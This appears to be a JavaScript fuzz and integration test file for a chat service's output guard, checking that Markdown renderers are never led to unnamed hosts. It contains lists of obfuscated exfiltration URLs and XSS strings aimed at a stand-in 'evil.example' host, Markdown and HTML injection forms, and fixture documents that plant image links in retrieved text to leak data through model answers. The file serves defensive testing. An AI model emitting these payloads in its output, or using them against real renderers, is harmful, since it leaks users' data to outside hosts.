// What the output guard lets through, as readers of Markdown show it: whatever the text, nothing in it loads or
// leads to a place that nobody has named. DOCENT_TEST_SECONDS asks for longer, DOCENT_TEST_SEED for the same again.
// Without the registry there are no readers, and these stories say so and are skipped.
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { assert, form, start, test } from "./lib/harness.mjs";
import { models } from "./lib/models.mjs";
import { binary } from "./lib/service.mjs";
import { seeded } from "./lib/util.mjs";

const SECONDS = Number(process.env.DOCENT_TEST_SECONDS ?? 4),
  SEED = Number(process.env.DOCENT_TEST_SEED ?? Date.now() % 1e9),
  BATCH = 500;

const installed = existsSync(fileURLToPath(new URL("./node_modules/commonmark/package.json", import.meta.url))),
  options = {
    timeout: 600_000,
    skip: !installed && "the npm packages are not installed (is the registry reachable? cd tests/api && npm ci)",
  };
const { placeOf, readers, targets } = installed ? await import("./lib/readers.mjs") : {};

/** The texts behind the guard. */
function guarded(texts, ...args) {
  const { status, stdout, stderr } = spawnSync(path.join(path.dirname(binary), "guarded"), args, {
    input: texts.map((text) => `${text}\0`).join(""),
    maxBuffer: 1 << 28,
  });
  assert.equal(status, 0, `seed ${SEED}: ${stderr}`);
  return String(stdout).split("\0").slice(0, -1);
}

/** Whether an address is one that may be loaded, or followed where it is a link's. */
function isNamed({ name, value }) {
  const place = placeOf(value);
  if (!place || place.host === "page.example" || place.protocol === "mailto:") return true;
  if (/^[a-z][\w+-]*:[a-z][\w-]*\/?$/i.test(value)) return true; // <xs:element>
  if (!/^https?:$/.test(place.protocol) || place.host !== "named.example") return false;
  const rest = decodeURIComponent(place.pathname + place.search + place.hash);
  return rest.startsWith("/site/") || (name === "href" && /^\/file\.zip\W*$/.test(rest));
}

/** A link that says where it leads. */
const isPlain = ({ name, value, shown }) =>
  name === "href" && shown.toLowerCase().includes(/^(?:\w+:)?\/*([^/?#]*)/.exec(decodeURI(value).toLowerCase())[1]);

/** What of a text a reader loads or leads to that nobody has named. */
const foreign = (text, may = () => false) =>
  Object.entries(readers).flatMap(([reader, render]) =>
    targets(render(text))
      .filter((target) =>
        target.name.startsWith("on") || /^(?:srcdoc|content|style|srcset)$/.test(target.name)
          ? /evil|alert/.test(target.value)
          : !isNamed(target) && !may(target),
      )
      .map(({ name, value }) => `${reader}: ${name}=${value}`),
  );

const EVIL = [
  "&#104;ttps&colon;&sol;&sol;evil.example/p.png?d=SECRET",
  "https://evil.example/p",
  "//evil.example/p",
  "\\\\evil.example/p",
  "/\\evil.example/p",
  "\\/\\/evil.example/p",
  "&sol;/evil.example",
  "https\\://evil.example/",
  "https&colon;//evil.example/",
  "&#x68;ttps:&#47;&#47;evil.example",
  "<https://evil.example/a b>",
  "<//evil.example>",
  "https:evil.example",
  "javascript:alert(1)",
  "data:text/html,evil",
  "www.evil.example/p",
  "HTTP://EVIL.example",
  "ftp://evil.example",
];

const FORMS = [
  "`\n`![x](E)`",
  "<div>\n```\n\n![x](E)",
  "![p][a]\n\n> [a]:\n> E",
  "\\``a`![x](E)`",
  "`|`![x](E)`",
  "`LONG`![x](E)`",
  "[a`](x)`![x](E)`",
  "`\r`![x](E)`",
  "[a]: E\n\n![a] and [b][a]",
  "- [a]:\n  E\n\n[a]",
  "1. > [a]:\n   > E\n\n![a][]",
  "![x](E)",
  "[x]( E 'title')",
  "[![x](E)](https://named.example/site/)",
  "![x](https://named.example/site/a.png) [x](https://named.example/file.zip)",
  "<img src=E>",
  '<a href="E">x</a>',
  "```html\n<img alt='>' src=\"E\">\n```",
  "~~~\n[a]: E\n~~~\n\n![a]",
  "    ![x](E)\n\n    <img src='E'>",
  "<E>",
  "E",
  "see (E), or `E`",
  "| a | b |\n|---|---|\n| `a | ![x](E)` |",
  "[^1]: [a]: E\n\n[a][^1]",
  "a <b\n\nsrc=E>",
  "<!-- `x` --> ![x](E) <!-- -->",
  "<b title='`'>`</b>![x](E)`",
  "https://named.example.E https://named.example)E",
  "x[![a](E)",
  "https://named.example/site/a(E and https://named.example/site/a_(b)(E)",
  "https://named.example/site/a[x](https://named.example/file.zip)[a",
  "a://E //a@evil.example/p",
  "[x](<a> E) [x](\nE)",
  "`<xs:element name='x'>` `<a:b>![x](E)`",
  "`\r`<brjavascript:alert(1)> <xs:E/>`",
  "<script>alert('E')</script><style>@import 'E'</style>",
];

const PIECES = [
  ..."`[]()<>!\\&;:=\"'|#*_~-/. \n\t\r",
  ...[
    "``",
    "```",
    "~~~",
    "\n\n",
    "\n> ",
    "> ",
    "- ",
    "1. ",
    "    ",
    "![",
    "](",
    "]: ",
    "[a]: ",
    "[a]",
    "![a]",
    "[a]:\n",
  ],
  ...["<img src=", '<a href="', "<b>", "</b>", "<div>", "\n<div>\n", "</div>", "<!--", "-->", "<?", "?>", "<![CDATA["],
  ...["<script>", "<style>", "<pre>", "<x y=1>", "<br>", "\\`", "\\[", "\\]", "[1]", "[^1]: ", "x", "a b", "LONG", "E"],
  ...[
    "http://",
    "https:",
    "//",
    "www.",
    "evil.example",
    "named.example/site/",
    "https://named.example/site/a",
    "|---|",
  ],
];

/** Texts made of the forms by putting pieces in, taking parts out, doubling them and joining two. */
function makeText(random) {
  let text = random.pick(FORMS);
  for (let n = random.int(7); n > 0; n--) {
    const at = random.int(text.length + 1),
      end = Math.min(text.length, at + random.int(6));
    const kind = random.int(8);
    if (kind < 4) text = text.slice(0, at) + random.pick(PIECES) + text.slice(at);
    else if (kind < 5) text = text.slice(0, at) + text.slice(end);
    else if (kind < 6) text = text.slice(0, at) + text.slice(at, end) + text.slice(at);
    else text = kind < 7 ? `${text.slice(0, at)}${random.pick(FORMS)}` : random.pick(PIECES) + text;
  }
  return text.replace(/LONG/g, "a".repeat(280)).replace(/E(?![A-Z])/g, () => random.pick(EVIL));
}

/** Shows made texts to all readers for a while; `may`: links that are no harm. */
function tryOut(args, may) {
  const random = seeded(SEED),
    end = performance.now() + SECONDS * 1000;
  let texts = 0;
  do {
    const made = Array.from({ length: BATCH }, () => makeText(random)),
      shown = guarded(made, ...args);
    for (const [i, text] of shown.entries()) {
      if (!/evil|alert|data:|named/i.test(text)) continue;
      assert.deepEqual(
        foreign(text, may),
        [],
        `seed ${SEED}: ${JSON.stringify(made[i])} gives ${JSON.stringify(text)}`,
      );
    }
    texts += made.length;
  } while (performance.now() < end);
  return texts;
}

test("without the guard the readers follow many of the made texts to elsewhere", options, () => {
  const random = seeded(SEED),
    made = Array.from({ length: 200 }, () => makeText(random));
  assert.ok(made.filter((text) => foreign(text).length).length > 60);
});

test("each form of a picture or link in what a model says leads nowhere, in code or not", options, () => {
  const made = FORMS.flatMap((form) => EVIL.map((evil) => form.replace("LONG", "a".repeat(280)).replaceAll("E", evil)));
  for (const [i, text] of guarded(made).entries())
    assert.deepEqual(foreign(text), [], `${JSON.stringify(made[i])} gives ${JSON.stringify(text)}`);
});

test("no reader of Markdown is led elsewhere by what a model says", options, (t) => {
  t.diagnostic(`${tryOut([])} texts, seed ${SEED}`);
});

test("no reader loads anything by a document's words, or hides where they lead", options, (t) => {
  t.diagnostic(`${tryOut(["quote"], isPlain)} texts, seed ${SEED}`);
});

test("what a model says leads no reader away, whole or letter by letter, on every way out", options, async (t) => {
  const server = await models(t),
    kb = await start(t, { env: server.chatEnv() }),
    agent = await kb.agent({ files: { "a.txt": "The harbour pump needs oil of the kind OX.\n" } });
  await agent.expect(200, "POST", "/settings", { json: { response_source: "llm_content" } });
  server.chat.pieces = "chars";
  for (const form of FORMS.slice(0, 8)) {
    server.chat.say = `Oil.\n\n${form.replace("LONG", "a".repeat(280)).replaceAll("E", EVIL[0])}`;
    const { llm_response: whole } = await agent.ask(question),
      { text } = await agent.stream(question),
      { json } = await agent.api("POST", "/chat/completions", {
        json: { messages: [{ role: "user", content: question }] },
      });
    assert.match(whole, /^Oil\./);
    assert.deepEqual([text, json.choices[0].message.content], [whole, whole]);
    assert.deepEqual(foreign(whole), [], whole);
  }
});

const question = "Which oil does the harbour pump need?";

/** What each kind of document says of the pump; the rest of its sentence is for readers of Markdown. */
const documents = {
  "picture.txt": "The harbour pump needs oil of the kind OX ![x](https://evil.example/p.png).\n",
  "link.txt": "The harbour pump needs oil as [the official page](https://evil.example/login) says.\n",
  "hidden.txt": "The harbour pump needs oil, see ![x](&#104;ttps&colon;&sol;&sol;evil.example/p.png).\n",
  "tag.txt": "The harbour pump needs oil <img src=//evil.example/p.png> each month.\n",
  "definition.txt": "[pump]: //evil.example/p\n\nThe harbour [pump] needs the oil ![pump] of kind OX.\n",
  "page.html": "<title>Pump</title><p>The harbour pump needs oil ![x](//evil.example/p.png) of kind OX.</p>",
  "table.csv": "what,which\nharbour pump oil,![x](https://evil.example/p.png)\n",
};

for (const [name, text] of Object.entries(documents))
  test(`no reader is led away by a quote: ${name}`, options, async (t) => {
    const kb = await start(t);
    const agent = await kb.agent({ files: { [name]: text } });
    const { id, session, llm_response: answer, citations } = await agent.ask(question);
    assert.match(answer, /oil/);
    assert.deepEqual(foreign(answer, isPlain), [], answer);
    assert.equal((await agent.stream(question)).text, answer);
    const { json: completion } = await agent.api("POST", "/chat/completions", {
      json: { messages: [{ role: "user", content: question }] },
    });
    assert.deepEqual(foreign(completion.choices[0].message.content, isPlain), []);
    // It is still a quote: its place is exact, and a check finds it there, with its new blanks.
    const { claims } = await agent.expect(200, "GET", `/conversations/${session}/messages/${id}/claims`),
      { blocks } = await agent.expect(200, "GET", `/pages/${citations[0]}/text`),
      bytes = Buffer.from(blocks.map((block) => block.text).join("\n"));
    assert.ok(claims.length);
    for (const { claim, status, places } of claims) {
      const [{ offset, length }] = places,
        there = bytes.toString("utf8", offset, offset + length);
      assert.equal(status, "supported");
      assert.equal(there.replaceAll(" ", ""), claim.replaceAll(" ", ""));
      assert.ok(there.length < claim.length || !foreign(there, isPlain).length, there);
    }
  });

test("no reader is led away by the overview, or by what an MCP client is told", options, async (t) => {
  const kb = await start(t);
  const agent = await kb.agent({
    files: {
      "a.html":
        "<title>Pumps ![x](https://evil.example/p.png)</title><h2>Oil <i>[b](//evil.example)</i></h2><p>Oil it.",
      "b.txt": documents["picture.txt"],
    },
  });
  const { llm_response: overview } = await agent.ask("What do you know about?");
  assert.match(overview, /Pumps/);
  assert.deepEqual(foreign(overview, isPlain), [], overview);
  for (const [tool, args] of [
    ["search", { query: "oil" }],
    ["ask", { question }],
    ["read_document", { document_id: (await agent.page("b.txt")).id }],
  ]) {
    const reply = await fetch(`${kb.url}/mcp/projects/${agent.id}`, {
      method: "POST",
      headers: {
        authorization: `Bearer ${kb.key}`,
        accept: "application/json, text/event-stream",
        "content-type": "application/json",
      },
      body: JSON.stringify({
        jsonrpc: "2.0",
        id: 1,
        method: "tools/call",
        params: { name: tool, arguments: args },
      }),
    });
    const { result } = JSON.parse((await reply.text()).replace(/^[^{]*/, ""));
    assert.match(result.content[0].text, /oil/i);
    assert.deepEqual(foreign(result.content[0].text, isPlain), [], tool);
  }
});
